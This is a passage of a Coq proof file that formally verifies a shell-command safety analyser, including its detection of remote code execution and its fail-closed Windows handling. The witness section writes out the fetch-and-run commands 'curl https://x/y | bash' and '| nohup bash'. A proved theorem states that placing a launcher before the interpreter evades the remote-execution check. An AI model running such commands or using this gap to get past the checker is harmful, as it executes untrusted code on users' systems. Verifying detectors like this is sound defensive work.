    destruct (invocation command n) as [[s words] amb]. etransitivity; [|exact Hd0].
    apply (derive_invocation_nested _ _ _ _ raw args); [done|by apply unwrapped_words in Hu|done..].
  - intros p Hp. destruct (derive_tree_written fuel root command p Hp) as (d0 & Hd0).
    apply (noted_grows _ _ _ _ Hd0), note_write_noted.
  - intros s p mode amb Hr. destruct (derive_tree_redirect fuel root command _ Hr) as (d0 & Hd0).
    apply (noted_grows _ _ _ _ Hd0), note_redirect_noted.
  - intros s mode amb Hr. destruct (derive_tree_redirect fuel root command _ Hr) as (d0 & Hd0).
    destruct (note_redirect_unresolved s mode amb d0) as [Hc Hx].
    split; [by apply (grows_caps _ _ Hd0)|by apply (not_exact_grows _ _ Hd0)].
  - intros n Hn Hk Ha. destruct (Hnode n Hn Hk) as (d0 & Hd0).
    destruct (invocation command n) as [[s words] amb]. simpl in Ha. subst amb.
    apply (not_exact_grows _ _ Hd0), derive_invocation_ambiguous. intros g sc. apply nested_at_wf.
Qed.

(** C13: nothing a cleanly parsed command does is missing from its derivation
    (the clauses of [covers]: every command node, every operand of a reader
    program, every [-c] script within the nesting, every written path, every
    redirect, resolved or not, every unresolved word); and a command that does not
    parse, or parses with an error, has an unknown derivation. *)
Theorem derive_at_complete fuel command :
  match try_parse_shell command with
  | Some root =>
      if has_error root then confidence (derive_at fuel command) = Unknown
      else covers fuel root command (derive_at fuel command)
  | None => confidence (derive_at fuel command) = Unknown
  end.
Proof.
  destruct (try_parse_shell command) as [root|] eqn:Hp; [destruct (has_error root) eqn:He|].
  - destruct fuel; simpl; by rewrite Hp, He.
  - rewrite (derive_at_tree _ _ _ Hp He). apply derive_tree_covers.
  - destruct fuel; simpl; by rewrite Hp.
Qed.

Lemma posix_derive_grows command : grows (derive_at MAX_NESTING command) (posix_derive command).
Proof.
  unfold posix_derive. cbv zeta. destruct (composes_remote_execution _ _) as [[f i]|]; [apply grows_add|done].
Qed.

(** ** Fetching and interpreting in one command *)

(** The loop has seen a fetcher, or an interpreter, or has already answered. *)
Definition saw_fetcher (st : scan_state) : Prop :=
  match st with Done _ => True | Scan f _ => is_Some f end.
Definition saw_interpreter (st : scan_state) : Prop :=
  match st with Done _ => True | Scan _ i => is_Some i end.

(** What one invocation is, after peeling: a fetcher, or an interpreter that
    reads its input. *)
Definition is_fetcher (inv : nat * list string * bool) : Prop :=
  ∃ raw args, unwrap_wrappers inv.1.2 = raw :: args ∧ is_downloader (normalize_program raw) args = true.
Definition reads_input (inv : nat * list string * bool) : Prop :=
  ∃ raw args, unwrap_wrappers inv.1.2 = raw :: args ∧
    is_code_interpreter (normalize_program raw) = true ∧ dash_c_script args = None.

Lemma scan_keeps nested st inv :
  (saw_fetcher st → saw_fetcher (scan_invocation nested st inv)) ∧
  (saw_interpreter st → saw_interpreter (scan_invocation nested st inv)).
Proof.
  destruct st as [f i|]; simpl; [|done]. unfold get_or_insert.
  split; intros Hs; repeat (case_match; simpl; try done; eauto).
Qed.

Lemma scan_sees nested st inv :
  (is_fetcher inv → saw_fetcher (scan_invocation nested st inv)) ∧
  (reads_input inv → saw_interpreter (scan_invocation nested st inv)).
Proof.
  destruct st as [f i|]; simpl; [|done]. unfold get_or_insert. split.
  - intros (raw & args & Hu & Hd). rewrite Hu, Hd.
    repeat (case_match; simpl; try done; eauto).
  - intros (raw & args & Hu & Hi & Hd). rewrite Hu, Hi, Hd. simpl. eauto.
Qed.

Lemma scan_fold nested invs st inv :
  inv ∈ invs →
  (is_fetcher inv → saw_fetcher (fold_left (scan_invocation nested) invs st)) ∧
  (reads_input inv → saw_interpreter (fold_left (scan_invocation nested) invs st)).
Proof.
  assert (Hkeep : ∀ l st,
    (saw_fetcher st → saw_fetcher (fold_left (scan_invocation nested) l st)) ∧
    (saw_interpreter st → saw_interpreter (fold_left (scan_invocation nested) l st))).
  { induction l as [|x l IH]; intros s; [done|]. simpl.
    destruct (scan_keeps nested s x), (IH (scan_invocation nested s x)). auto. }
  revert st. induction invs as [|x invs IH]; intros st Hin; [by apply not_elem_of_nil in Hin|].
  apply elem_of_cons in Hin as [<-|Hin]; [|by apply IH]. simpl.
  destruct (scan_sees nested st inv), (Hkeep invs (scan_invocation nested st inv)). auto.
Qed.

(** A command composes remote execution, its [-c] scripts being looked into
    [levels] deep: a fetcher and an interpreter that reads its input among the
    invocations of one command line, or an interpreter handed a script that
    composes. *)
Inductive composes : nat → string → Prop :=
| composes_here levels command root a b :
    try_parse_shell command = Some root →
    a ∈ shell_command_invocations root command → is_fetcher a →
    b ∈ shell_command_invocations root command → reads_input b →
    composes (S levels) command
| composes_script levels command root a raw args script :
    try_parse_shell command = Some root →
    a ∈ shell_command_invocations root command →
    unwrap_wrappers a.1.2 = raw :: args → is_code_interpreter (normalize_program raw) = true →
    dash_c_script args = Some script → composes levels script →
    composes (S levels) command.

(** The loop finds a script that composes, whatever it has seen before. *)
Lemma scan_script nested invs st a raw args script :
  a ∈ invs → unwrap_wrappers a.1.2 = raw :: args → is_code_interpreter (normalize_program raw) = true →
  dash_c_script args = Some script → is_Some (nested script) →
  ∃ found, fold_left (scan_invocation nested) invs st = Done found.
Proof.
  intros Ha Hu Hi Hd [found Hn].
  assert (Hdone : ∀ l f, fold_left (scan_invocation nested) l (Done f) = Done f) by (intros l f; by induction l).
  revert st. induction invs as [|x invs IH]; intros st; [by apply not_elem_of_nil in Ha|].
  apply elem_of_cons in Ha as [<-|Ha]; [|by apply IH]. simpl.
  destruct st as [f i|f]; simpl; [|rewrite Hdone; eauto].
  rewrite Hu, Hi, Hd, Hn, Hdone. eauto.
Qed.

(** What the state of the loop says is there. *)
Definition scan_seen (nested : string → option (string * string)) (invs : list (nat * list string * bool))
    (st : scan_state) : Prop :=
  match st with
  | Scan f i => (is_Some f → Exists is_fetcher invs) ∧ (is_Some i → Exists reads_input invs)
  | Done _ => Exists (λ a, ∃ raw args script, unwrap_wrappers a.1.2 = raw :: args ∧
      is_code_interpreter (normalize_program raw) = true ∧ dash_c_script args = Some script ∧
      is_Some (nested script)) invs
  end.

Lemma scanned_step nested done inv st :
  scan_seen nested done st → scan_seen nested (done ++ [inv]) (scan_invocation nested st inv).
Proof.
  destruct st as [f i|f]; simpl; rewrite ?Exists_app, ?Exists_cons; [|tauto]. intros [Hf Hi].
  assert (Hweak : ∀ (P : nat * list string * bool → Prop) o, (is_Some o → Exists P done) →
    @is_Some string o → Exists P (done ++ [inv])) by (intros; apply Exists_app; auto).
  destruct (unwrap_wrappers inv.1.2) as [|raw args] eqn:Hu; [simpl; eauto|].
  assert (Hfetch : is_Some (if is_downloader (normalize_program raw) args
      then get_or_insert f (normalize_program raw) else f) → Exists is_fetcher (done ++ [inv])).
  { destruct (is_downloader _ _) eqn:E; [|by apply Hweak]. intros _. apply Exists_app. right.
    apply Exists_cons. left. by exists raw, args. }
  destruct (is_code_interpreter _) eqn:Hc; [|simpl; eauto].
  destruct (dash_c_script args) as [script|] eqn:Hd; [destruct (nested script) eqn:Hn|]; simpl.
  - apply Exists_app. right. apply Exists_cons. left. exists raw, args, script. by rewrite Hn.
  - eauto.
  - split; [done|]. intros _. apply Exists_app. right. apply Exists_cons. left. by exists raw, args.
Qed.

Lemma scan_seen_fold nested invs : scan_seen nested invs (fold_left (scan_invocation nested) invs (Scan None None)).
Proof.
  assert (∀ rest done st, scan_seen nested done st →
    scan_seen nested (done ++ rest) (fold_left (scan_invocation nested) rest st)) as Hf.
  { induction rest as [|x rest IH]; intros done st Hs; simpl; [by rewrite app_nil_r|].
    rewrite cons_middle, app_assoc. by apply IH, scanned_step. }
  apply (Hf invs [] (Scan None None)). split; by intros [].
Qed.

(** The search finds exactly the commands that compose. *)
Lemma composes_found levels command :
  composes levels command → is_Some (composes_remote_execution levels command).
Proof.
  induction 1 as [levels command root a b Hp Ha Hfa Hb Hib|levels command root a raw args script Hp Ha Hu Hi Hd _ IH];
    simpl; rewrite Hp; simpl.
  - destruct (scan_fold (composes_remote_execution levels) _ (Scan None None) a Ha) as [Hf _].
    destruct (scan_fold (composes_remote_execution levels) _ (Scan None None) b Hb) as [_ Hi].
    specialize (Hf Hfa). specialize (Hi Hib).
    destruct (fold_left _ _ _) as [[f|] [i|]|]; simpl in Hf, Hi; eauto; by destruct Hf || by destruct Hi.
  - by destruct (scan_script _ _ (Scan None None) a raw args script Ha Hu Hi Hd IH) as [found ->].
Qed.

Lemma found_composes levels command :
  is_Some (composes_remote_execution levels command) → composes levels command.
Proof.
  revert command. induction levels as [|levels IH]; intros command; [by intros []|]. simpl.
  destruct (try_parse_shell command) as [root|] eqn:Hp; simpl; [|by intros []].
  pose proof (scan_seen_fold (composes_remote_execution levels) (shell_command_invocations root command)) as Hs.
  intros Hsome. destruct (fold_left _ _ _) as [[f|] [i|]|]; simpl in Hs; try (by destruct Hsome).
  - destruct Hs as [Hf Hi]. destruct (proj1 (Exists_exists _ _) (Hf (mk_is_Some _ _ eq_refl))) as (a & Ha & Hfa).
    destruct (proj1 (Exists_exists _ _) (Hi (mk_is_Some _ _ eq_refl))) as (b & Hb & Hib).
    by apply (composes_here _ _ root a b).
  - apply Exists_exists in Hs as (a & Ha & raw & args & script & Hu & Hi & Hd & Hn).
    eapply composes_script; eauto.
Qed.

(** Nothing else claims remote code execution: classification and the file
    targets never do. *)
Definition no_rce (d : Derivation) : Prop := RemoteCodeExecution ∉ capabilities d.

Lemma no_rce_add c t d : c ≠ RemoteCodeExecution → no_rce d → no_rce (add d c t).
Proof. unfold no_rce. simpl. set_solver. Qed.
Lemma no_rce_when b f d : (∀ d, no_rce d → no_rce (f d)) → no_rce d → no_rce (when b f d).
Proof. destruct b; simpl; auto. Qed.
Lemma no_rce_fold {A} (f : A → Derivation → Derivation) l d :
  (∀ x d, no_rce d → no_rce (f x d)) → no_rce d → no_rce (fold_left (λ d x, f x d) l d).
Proof. intros Hf Hd. apply fold_left_inv; [done|]. auto. Qed.
Lemma no_rce_targets d t : no_rce d → no_rce (set_targets d t).
Proof. done. Qed.

Ltac quiet := repeat first
  [ done
  | lazymatch goal with |- ∀ _, _ => intros ? end
  | apply no_rce_add; [done|] | apply no_rce_when | apply no_rce_targets ].

Lemma no_rce_classify_here p args d : no_rce d → no_rce (classify_here p args d).
Proof.
  intros Hd. unfold classify_here, classify_publish, classify_git, classify_install, classify_name. cbv zeta.
  apply no_rce_when; [quiet|]. apply (no_rce_fold note_url); [|quiet].
  intros a d' Hd'. unfold note_url. destruct (as_url a); quiet.
Qed.

Lemma no_rce_classify words d : no_rce d → no_rce (classify words d).
Proof.
  unfold classify. generalize MAX_LAUNCHER_DEPTH as fuel. intros fuel. revert words d.
  induction fuel as [|fuel IH]; intros words d Hd; simpl; [quiet|].
  destruct words as [|raw args]; [done|].
  destruct (mem _ LAUNCHERS); [|by apply no_rce_classify_here].
  destruct (launched_command args); [|by apply no_rce_classify_here].
  apply IH, no_rce_add; [done|]. by apply no_rce_classify_here.
Qed.

Lemma no_rce_note_read p d : no_rce d → no_rce (note_read p d).
Proof. intros Hd. unfold note_read, flag_sensitive_path. cbv zeta. quiet. Qed.
Lemma no_rce_note_write p d : no_rce d → no_rce (note_write p d).
Proof. intros Hd. unfold note_write, flag_sensitive_path. cbv zeta. quiet. Qed.
Lemma no_rce_note_redirect r d : no_rce d → no_rce (note_redirect r d).
Proof.
  destruct r as [[[s [p|]] mode] amb]; simpl.
  - destruct mode; [apply no_rce_note_read|apply no_rce_note_write].
  - quiet.
Qed.

Lemma no_rce_derive_invocation nested inv d :
  (∀ g s, nested = Some g → no_rce (g s)) → no_rce d → no_rce (derive_invocation nested inv d).
Proof.
  intros Hn Hd. destruct inv as [[s words] amb]. unfold derive_invocation. cbv zeta.
  assert (no_rce (when amb (λ d, degrade d Partial) d)) as Hd1 by (by destruct amb).
  case_bool_decide; [done|]. destruct (unwrap_wrappers words) as [|raw args]; [by apply no_rce_classify|].
  assert (∀ d', no_rce d' → no_rce (note_operands (normalize_program raw) (raw :: args) d')) as Hops.
  { intros d' Hd'. apply no_rce_when; [|done]. intros d2 Hd2. apply (no_rce_fold note_read); [|done].
    intros p d3. apply no_rce_note_read. }
  destruct nested as [g|]; [|by apply Hops, no_rce_classify].
  destruct (if is_code_interpreter _ then _ else _) as [script|]; [|by apply Hops, no_rce_classify].
  unfold no_rce. simpl. rewrite not_elem_of_union. split; [by apply Hops, no_rce_classify|by apply Hn].
Qed.

Lemma no_rce_derive_at fuel command : no_rce (derive_at fuel command).
Proof.
  revert command. induction fuel as [fuel IH] using lt_wf_ind. intros command.
  assert (∀ g s, nested_at fuel = Some g → no_rce (g s)) as Hn.
  { intros g s Hg. destruct fuel; [done|]. injection Hg as <-. apply IH. lia. }
  destruct (try_parse_shell command) as [root|] eqn:Hp; [destruct (has_error root) eqn:He|].
  2: { rewrite (derive_at_tree _ _ _ Hp He). unfold derive_tree. cbv zeta.
    apply (no_rce_fold note_redirect); [apply no_rce_note_redirect|].
    apply (no_rce_fold note_write); [apply no_rce_note_write|].
    apply (no_rce_fold (derive_invocation (nested_at fuel))); [|done].
    intros inv d Hd. by apply no_rce_derive_invocation. }
  all: destruct fuel; simpl; rewrite Hp, ?He; by vm_compute.
Qed.

(** C14: remote code execution is claimed of exactly the commands that compose
    it: a fetcher and an interpreter reading its input among the invocations of
    one command line, in any order, or of a [-c] script nested in it at most
    [MAX_NESTING] deep. What an invocation runs is read off after
    [unwrap_wrappers]; other launchers in front of an interpreter are not looked
    through ([launched_interpreter_not_composed]). *)
Theorem remote_execution_detected command :
  RemoteCodeExecution ∈ capabilities (posix_derive command) ↔ composes (S MAX_NESTING) command.
Proof.
  split.
  - intros Hin. apply found_composes. unfold posix_derive in Hin. cbv zeta in Hin.
    destruct (composes_remote_execution _ _) as [[f i]|]; [done|]. by apply no_rce_derive_at in Hin.
  - intros Hc%composes_found. unfold posix_derive. cbv zeta.
    destruct (composes_remote_execution _ _) as [[f i]|]; [apply add_has|by destruct Hc].
Qed.

(** A launcher in front of the interpreter hides the composition: fetching and
    piping into [nohup bash] (or [sudo bash], [command bash], ...) is not found,
    although classification does look through the same launchers. *)
Theorem launched_interpreter_not_composed command root url launcher fuel i j :
  try_parse_shell command = Some root →
  shell_command_invocations root command = [(i, ["curl"; url], false); (j, [launcher; "bash"], false)] →
  launcher ∈ LAUNCHERS →
  composes_remote_execution fuel command = None.
Proof.
  intros Hp Hinv Hl. destruct fuel as [|fuel]; [done|]. simpl. rewrite Hp. simpl. rewrite Hinv.
  revert Hl. unfold LAUNCHERS. rewrite !elem_of_cons, elem_of_nil.
  intros Hl. destruct_or?; subst; by vm_compute.
Qed.

End Derive.

(** ** Windows commands *)

Lemma classify_segments_recorder segs d d' :
  classify_segments segs d = Some d' → ∃ f, Recorder f ∧ d' = f d ∧ (∀ x, confidence (f x) = confidence x).
Proof.
  revert d. induction segs as [|s segs IH]; intros d; simpl.
  - intros [= <-]. exists (λ d, d). split_and!; [apply _|done|done].
  - intros (ws & Hw & H)%bind_Some. case_bool_decide; [by apply IH|].
    apply IH in H as (f & Hf & -> & Hc).
    exists (λ d, f (classify (resolve_alias ws) d)). split_and!; [|done|].
    + by apply (Recorder_comp (classify (resolve_alias ws)) f); [apply _|].
    + intros x. rewrite Hc. apply classify_confidence.
Qed.

Lemma windows_derive_cases command :
  (∃ reason, windows_derive command = Derivation_unknown reason) ∨
  (evasion_marker (to_ascii_lowercase command) = None ∧ ∃ f t, Recorder f ∧
     windows_derive command = f (add (Derivation_new Partial) ShellInterpretation t) ∧
     ∀ x, confidence (f x) = confidence x).
Proof.
  unfold windows_derive. destruct (evasion_marker _) as [[m w]|]; [by left; eexists|].
  destruct (contains_byte _ _ && _); [by left; eexists|].
  destruct (split_segments command) as [segs|]; [|by left; eexists].
  cbv zeta. set (d := add _ _ _). destruct (classify_segments segs d) as [d'|] eqn:E; [|by left; eexists].
  right. split; [done|]. apply classify_segments_recorder in E as (f & Hf & -> & Hc).
  exists f. eexists. split_and!; [done|done|done].
Qed.

(** The Windows backend is fail-closed: it never claims an exact derivation,
    answers [Unknown] for every command that contains an evasion marker, and
    whatever else it answers still claims shell interpretation. *)
Theorem windows_derive_fail_closed command :
  confidence (windows_derive command) ≠ Exact ∧
  (is_Some (evasion_marker (to_ascii_lowercase command)) → confidence (windows_derive command) = Unknown) ∧
  (confidence (windows_derive command) = Partial → ShellInterpretation ∈ capabilities (windows_derive command)).
Proof.
  destruct (windows_derive_cases command) as [[r ->]|(Hm & f & t & Hf & Heq & Hc)].
  - done.
  - rewrite Heq, Hc, Hm. simpl. split_and!; [done|by intros []|].
    intros _. apply (rec_grows (f := f)), add_has.
Qed.

(** C40: whatever the shell, the parser's answer and the nesting, a derived
    command is well formed (each capability explained by evidence, nothing
    recorded twice), and an unknown derivation still claims that something
    runs: it never reads as harmless. *)
Theorem derive_shell_fail_closed `{BashParser} command shell :
  Derivation_wf (derive_shell command shell) ∧ fail_closed (derive_shell command shell).
Proof.
  assert (Hw : Derivation_wf (windows_derive command) ∧ fail_closed (windows_derive command)).
  { destruct (windows_derive_cases command) as [[r ->]|(Hm & f & t & Hf & -> & Hc)].
    - split; [apply Derivation_unknown_wf|apply fail_closed_unknown].
    - split; [apply (rec_wf (f := f)), add_wf, Derivation_new_wf|].
      unfold fail_closed. rewrite Hc. done. }
  destruct shell; [|done|done]. simpl. split.
  - unfold posix_derive. cbv zeta. destruct (composes_remote_execution _ _) as [[f i]|];
      [apply add_wf|]; apply derive_at_wf.
  - intros Hu. apply (grows_caps _ _ (posix_derive_grows command)). apply derive_at_fail_closed.
    revert Hu. unfold posix_derive. cbv zeta. by destruct (composes_remote_execution _ _) as [[f i]|].
Qed.

(** ** Splitting Windows command lines *)

Lemma tokenize_in_quotes w rest acc :
  bytes_all quotable w = true →
  tokenize_from (chars w ++ rest) (Some "'") true acc = tokenize_from rest (Some "'") true (acc +:+ w).
Proof.
  revert acc. induction w as [|a w IH]; intros acc Hw; [by rewrite app_nil_r_str|].
  rewrite chars_ascii by (revert Hw; apply bytes_all_impl; intros b;
    unfold quotable; rewrite !andb_true_iff; naive_solver).
  simpl in Hw. apply andb_prop in Hw as [Ha Hw]. unfold quotable in Ha.
  apply andb_prop in Ha as [[_ Hq%negb_true_iff%bool_decide_eq_false]%andb_prop _].
  simpl. rewrite (bool_decide_eq_false_2 (String a "" = "'")) by congruence.
  rewrite IH by done. by rewrite <-app_assoc_str.
Qed.

Lemma tokenize_single_quoted w rest :
  bytes_all quotable w = true →
  tokenize_from (chars (single_quoted w) ++ rest) None false "" = tokenize_from rest None true w.
Proof.
  intros Hw. pose proof (single_quoted_ascii w Hw) as Ha. unfold single_quoted in *.
  rewrite chars_ascii_app in * by done.
  assert (bytes_all ascii_byte (w +:+ "'") = true) as Hw'
    by (rewrite bytes_all_app in Ha; by apply andb_prop in Ha as [_ ?]).
  rewrite (chars_ascii_app w) by done. rewrite <-!app_assoc.
  change (chars "'" ++ chars w ++ chars "'" ++ rest) with ("'" :: chars w ++ chars "'" ++ rest).
  simpl. rewrite tokenize_in_quotes by done. done.
Qed.

(** The Windows tokeniser inverts quoting, empty arguments included: words in
    single quotes, separated by blanks, are read back as they were. *)
Theorem tokenize_quoted ws :
  Forall (λ w, bytes_all quotable w = true) ws →
  tokenize (join " " (single_quoted <$> ws)) = Some ws.
Proof.
  unfold tokenize. induction ws as [|w [|w' ws] IH]; intros Hall; [done| |].
  - rewrite Forall_singleton in Hall.
    change (join " " (single_quoted <$> [w])) with (single_quoted w).
    rewrite <-(app_nil_r (chars (single_quoted w))), tokenize_single_quoted by done. done.
  - apply Forall_cons in Hall as [Hw Hall]. specialize (IH Hall).
    set (tail := join " " (single_quoted <$> w' :: ws)) in *.
    change (join " " (single_quoted <$> w :: w' :: ws)) with (single_quoted w +:+ " " +:+ tail).
    assert (bytes_all ascii_byte tail = true) as Ht.
    { apply join_bytes; [done|]. apply Forall_fmap. eapply Forall_impl; [exact Hall|].
      intros x Hx. by apply single_quoted_ascii. }
    rewrite chars_ascii_app by (by rewrite !bytes_all_app, single_quoted_ascii, Ht).
    rewrite tokenize_single_quoted by done.
    rewrite (chars_ascii_app " ") by (by rewrite bytes_all_app, Ht).
    simpl. by rewrite IH.
Qed.

Lemma tokenize_quoted_witness : tokenize "'a b' '' 'c'" = Some ["a b"; ""; "c"].
Proof. apply (tokenize_quoted ["a b"; ""; "c"]). apply (bool_decide_unpack _). by vm_compute. Defined.

(** ** Witnesses over the word-pipeline parser *)

#[local] Existing Instance toy_bash.

Definition piped : string := "curl https://x/y | bash".
Definition piped_nohup : string := "curl https://x/y | nohup bash".

Lemma derive_at_complete_witness :
  try_parse_shell piped = Some (toy_tree piped) ∧ has_error (toy_tree piped) = false ∧
  (∃ d, descendant (toy_tree piped) d ∧ kind d = "command") ∧
  covers 4 (toy_tree piped) piped (derive_at 4 piped).
Proof.
  split_and!; [done|done| |exact (derive_at_complete 4 piped)].
  exists (Node "command" None true 18 23 [toy_leaf true 19 "bash"]). split; [|done].
  apply elem_of_visited. vm_compute. do 2 apply list_elem_of_further. apply list_elem_of_here.
Defined.

Lemma remote_execution_detected_witness :
  composes (S MAX_NESTING) piped ∧ RemoteCodeExecution ∈ capabilities (posix_derive piped).
Proof.
  assert (composes (S MAX_NESTING) piped) as Hc.
  { apply (composes_here _ piped (toy_tree piped) (0, ["curl"; "https://x/y"], false) (18, ["bash"], false)).
    - by vm_compute.
    - by_compute.
    - by exists "curl", ["https://x/y"].
    - by_compute.
    - by exists "bash", []. }
  split; [exact Hc|]. by apply remote_execution_detected.
Defined.

Lemma launched_interpreter_not_composed_witness :
  composes_remote_execution 5 piped_nohup = None ∧
  RemoteCodeExecution ∉ capabilities (posix_derive piped_nohup).
Proof.
  split; [|by_compute].
  apply (launched_interpreter_not_composed piped_nohup (toy_tree piped_nohup) "https://x/y" "nohup" 5 0 18).
  - by vm_compute.
  - by vm_compute.
  - by_compute.
Defined.

End Properties.
